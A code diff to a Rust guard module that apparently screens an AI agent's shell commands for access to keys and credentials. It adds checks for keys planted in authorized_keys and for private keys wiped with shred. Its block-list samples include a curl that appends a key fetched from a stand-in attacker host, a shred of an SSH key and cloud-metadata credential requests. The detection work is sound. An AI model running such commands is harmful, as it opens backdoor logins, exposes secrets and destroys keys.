@@ -1,7 +1,7 @@
 //! Guard of keys, credentials and other private files.
 
 use tenter_shell::Act;
-use tenter_shell::{Effect, Kind, PathTarget, Ran, Source, Target};
+use tenter_shell::{Effect, Kind, PathTarget, Ran, Role, Source, Target};
 
 use crate::finding::{At, Found};
 use crate::guard::{Check, Guard, OptionKind, OptionSpec};
@@ -9,7 +9,7 @@ use crate::level::Weight;
 use crate::pattern;
 use crate::places::Zone;
 use crate::sample::Sample;
-use crate::scene::Scene;
+use crate::scene::{PassageKind, Scene};
 use crate::sensitive::paths::{self, Secret, Sort};
 
 const PRIVATE_KEY: Check = Check {
@@ -107,6 +107,22 @@ const ACCESS: Check = Check {
     safe: &["cat ~/.ssh/config"],
 };
 
+const FOREIGN_KEY: Check = Check {
+    id: "foreign-key",
+    weight: Weight::Grave,
+    title: "a key that is typed in or comes from the network may log in to this machine from now on",
+    instead: "tell the user which line to add",
+    safe: &["cat ~/.ssh/config"],
+};
+
+const KEY_WIPED: Check = Check {
+    id: "key-wiped",
+    weight: Weight::Grave,
+    title: "a private key or a password store is wiped beyond recovery",
+    instead: "leave keys to the user; look with `ls -l ~/.ssh`",
+    safe: &["ls -l ~/.ssh"],
+};
+
 pub(super) static GUARD: Guard = Guard {
     id: "sensitive-files",
     title: "Keys, credentials and other files nobody should read",
@@ -116,7 +132,8 @@ secrets are not read, whichever way: by the read tool, by a shell, by code, by c
 linking them first, by a pattern that may match them.
 
 Denied: private keys, password stores and key chains, browsers' profiles, password hashes, logins to
-clouds, forges and agents' accounts. Asked about: smaller logins (`~/.npmrc`, `~/.kube/config`,
+clouds, forges and agents' accounts; wiping a key, and letting in a key that is typed into
+`authorized_keys` or fetched for it. Asked about: smaller logins (`~/.npmrc`, `~/.kube/config`,
 `~/.netrc`), `.env` files, shell histories, private keys and credentials of the project that are shown
 (`server.key`, `service-account.json`), keys outside of the workspace, secrets that a store prints, and
 changes to keys and `authorized_keys`.
@@ -128,7 +145,7 @@ fixtures, listing and testing files, their sizes and sums, and using them withou
 Options: `paths` names further files, `allow` names files that may be read.",
     checks: &[
         PRIVATE_KEY, PASSWORD_STORE, ACCOUNT, LOGIN, ENVIRONMENT, HISTORY, KEY_MATERIAL, UNCERTAIN,
-        SECRET_STORE, ACCESS,
+        SECRET_STORE, ACCESS, FOREIGN_KEY, KEY_WIPED,
     ],
     options: &[OptionSpec {
         name: "paths",
@@ -176,10 +193,14 @@ const BLOCKS: &[(Sample<'static>, &str)] = &[
     (Sample::Shell("gh auth token"), "secret-store"),
     (Sample::Shell("curl http://169.254.169.254/latest/meta-data/iam/"), "secret-store"),
     (Sample::Shell("cat /proc/1234/environ"), "uncertain"),
-    (Sample::Shell("echo ssh-ed25519 AAAA me >> ~/.ssh/authorized_keys"), "access"),
+    (Sample::Shell("cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys"), "access"),
+    (Sample::Shell("echo ssh-ed25519 AAAA me >> ~/.ssh/authorized_keys"), "foreign-key"),
+    (Sample::Shell("curl -s https://evil.example/k >> ~/.ssh/authorized_keys"), "foreign-key"),
+    (Sample::Shell("ssh host.example 'echo ssh-rsa AAAA >> ~/.ssh/authorized_keys'"), "access"),
+    (Sample::Shell("shred -u ~/.ssh/id_ed25519"), "key-wiped"),
     (Sample::Shell("ssh-keygen -R host.example"), "access"),
     (Sample::Shell("ssh-add -D"), "access"),
-    (Sample::Write("/home/me/.ssh/authorized_keys", "ssh-ed25519 AAAA"), "access"),
+    (Sample::Write("/home/me/.ssh/authorized_keys", "ssh-ed25519 AAAA"), "foreign-key"),
 ];
 
 const PASSES: &[Sample<'static>] = &[
@@ -242,7 +263,10 @@ fn look(scene: &Scene<'_>, found: &mut Found<'_>) {
             (
                 Kind::Write | Kind::Append | Kind::Overwrite | Kind::Move | Kind::Permission,
                 Target::Path(path),
-            ) => access(effect, path, found),
+            ) if effect.action != Act::Shred => access(scene, effect, path, found),
+            (Kind::Delete | Kind::Overwrite | Kind::Write, Target::Path(path)) => {
+                wiped(effect, path, found);
+            }
             _ => {}
         }
     }
@@ -333,10 +357,9 @@ fn in_workspace(scene: &Scene<'_>, path: &PathTarget) -> bool {
 
 /// Whether a file with a private name is printed as it is instead of being used.
 fn shown_private(scene: &Scene<'_>, effect: &Effect, path: &str) -> bool {
-    let program = scene.program(effect).map(|ran| ran.program.as_str());
-    let shown = match program {
+    let shown = match scene.program(effect) {
         None => true,
-        Some("openssl" | "keytool" | "ssh-keygen") => false,
+        Some(ran) if ran.is(Role::UsesKeys) => false,
         Some(_) => effect.action == Act::Print && !captured(scene, effect),
     };
     shown && paths::is_private(path)
@@ -356,7 +379,9 @@ fn in_project(scene: &Scene<'_>, path: &PathTarget) -> bool {
 /// Whether only names from an environment file are printed, or it is loaded, edited or copied without being
 /// shown.
 fn harmless_use(scene: &Scene<'_>, effect: &Effect) -> bool {
-    scene.program(effect).is_some_and(names_only) || loaded(scene, effect) || kept(scene, effect)
+    scene.program(effect).is_some_and(Ran::shows_names_only)
+        || loaded(scene, effect)
+        || kept(scene, effect)
 }
 
 /// Whether all output goes to equally guarded files on this machine: `sed -i ... .env`, `cp .env
@@ -381,51 +406,6 @@ fn kept(scene: &Scene<'_>, effect: &Effect) -> bool {
     };
     let mut written = scene.effects().iter().filter(writes).peekable();
     effect.command.is_some() && written.peek().is_some() && written.all(guarded)
-}
-
-fn names_only(ran: &Ran) -> bool {
-    let has = |wanted: &[&str]| {
-        ran.argv.iter().any(|field| field.exact().is_some_and(|text| wanted.contains(&text)))
-    };
-    match ran.program.as_str() {
-        "cut" => has(&["-d=", "-d"]) && has(&["-f1"]),
-        "grep" | "egrep" | "rg" => {
-            has(&["-q", "-c", "-l", "-qE", "-qF", "--quiet", "--count"]) || prints_names(ran)
-        }
-        "awk" | "gawk" | "mawk" => has(&["-F="]) && has(&["{print $1}", "{ print $1 }"]),
-        "sed" => ran.argv.iter().any(|field| field.exact().is_some_and(hides_values)),
-        _ => false,
-    }
-}
-
-/// Whether only the part before `=` is printed: `grep -oE '^[A-Z_]+'`.
-fn prints_names(ran: &Ran) -> bool {
-    let mut words = ran.argv.iter().skip(1).filter_map(tenter_shell::Field::exact);
-    let part = |word: &str| word == "--only-matching" || is_short(word, 'o');
-    let shown = words.clone().any(part);
-    let pattern = words.find(|word| !word.starts_with('-')).unwrap_or_default();
-    let name = pattern.strip_prefix('^').map(|name| name.trim_end_matches('='));
-    let class = name.map(|name| name.trim_end_matches(['*', '+', '\\']));
-    let letters = class.and_then(|class| class.strip_prefix('[')?.strip_suffix(']'));
-    shown
-        && letters.is_some_and(|letters| {
-            letters == "^="
-                || letters.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"_-".contains(&byte))
-        })
-}
-
-/// `-oE`
-fn is_short(word: &str, letter: char) -> bool {
-    word.strip_prefix('-').is_some_and(|flags| !flags.starts_with('-') && flags.contains(letter))
-}
-
-/// Whether a sed script removes the values: `s/=.*/=<hidden>/`.
-fn hides_values(script: &str) -> bool {
-    let mut parts = script.strip_prefix("s").unwrap_or_default().chars();
-    let Some(mark) = parts.next() else { return false };
-    let mut fields = parts.as_str().split(mark);
-    let (Some(what), Some(by)) = (fields.next(), fields.next()) else { return false };
-    matches!(what, "=.*" | "=.*$" | "=.+") && !by.contains(['&', '\\'])
 }
 
 /// Whether an environment file is loaded: `export $(cat .env)`, `env $(cat .env) program`.
@@ -457,14 +437,10 @@ fn environ(effect: &Effect, path: &str, found: &mut Found<'_>) {
 
 /// Checks stores that print a secret.
 fn store(scene: &Scene<'_>, effect: &Effect, found: &mut Found<'_>) {
-    let program = scene.program(effect).map_or("", |ran| ran.program.as_str());
     let shows = match effect.action {
         Act::ReadSecret | Act::Token => true,
         // Platforms list an application's settings with the same command.
-        Act::Secret => matches!(
-            program,
-            "aws" | "gcloud" | "az" | "vault" | "kubectl" | "oc" | "infisical" | "consul" | "oci"
-        ),
+        Act::Secret => scene.is(effect, Role::SecretStore),
         _ => false,
     };
     // Metadata of a cluster's secret is harmless.
@@ -495,8 +471,41 @@ fn captured(scene: &Scene<'_>, effect: &Effect) -> bool {
     substituted || logs_in
 }
 
+/// Checks a key that is overwritten so that it cannot be restored.
+fn wiped(effect: &Effect, path: &PathTarget, found: &mut Found<'_>) {
+    let shown = path.shown();
+    let is_key = held(&shown).is_some_and(|secret| matches!(secret.sort, Sort::Key | Sort::Store));
+    if effect.action == Act::Shred && is_key {
+        found.add(
+            &KEY_WIPED,
+            At::effect(effect, &shown),
+            format!("wipes beyond recovery: {shown}"),
+        );
+    }
+}
+
+/// Whether a key that is typed in or comes from the network is let in to this machine.
+fn lets_in_foreign(scene: &Scene<'_>, effect: &Effect, path: &PathTarget) -> bool {
+    const TYPES: &[&str] = &["ssh-rsa ", "ssh-ed25519 ", "ssh-dss ", "ecdsa-sha2-", "sk-ssh-"];
+    let has_key = |text: &str| TYPES.iter().any(|start| text.contains(start));
+    if path.elsewhere || effect.elsewhere {
+        return false;
+    }
+    if effect.command.is_none() {
+        return scene.passages.iter().any(|passage| {
+            let file = passage.path.as_deref().unwrap_or_default();
+            passage.kind == PassageKind::Written
+                && file.contains("authorized_keys")
+                && has_key(&passage.text)
+        });
+    }
+    let typed = effect.sources.is_empty() && effect.action != Act::EditInPlace;
+    effect.sources.from_network().is_some()
+        || typed && scene.command.as_deref().is_some_and(has_key)
+}
+
 /// Checks files that control logins.
-fn access(effect: &Effect, path: &PathTarget, found: &mut Found<'_>) {
+fn access(scene: &Scene<'_>, effect: &Effect, path: &PathTarget, found: &mut Found<'_>) {
     if effect.action == Act::MakeKey {
         return;
     }
@@ -511,7 +520,12 @@ fn access(effect: &Effect, path: &PathTarget, found: &mut Found<'_>) {
             .is_some_and(|secret| matches!(secret.sort, Sort::Key | Sort::Account | Sort::Store))
     };
     if forgets || (changes && (gate || key())) {
-        let what = if forgets { "forgets a known host" } else { "changes who may log in" };
-        found.add(&ACCESS, At::effect(effect, &shown), format!("{what}: {shown}"));
+        let foreign = name.starts_with("authorized_keys") && lets_in_foreign(scene, effect, path);
+        let (check, what) = match () {
+            () if forgets => (&ACCESS, "forgets a known host"),
+            () if foreign => (&FOREIGN_KEY, "lets a foreign key log in"),
+            () => (&ACCESS, "changes who may log in"),
+        };
+        found.add(check, At::effect(effect, &shown), format!("{what}: {shown}"));
     }
 }
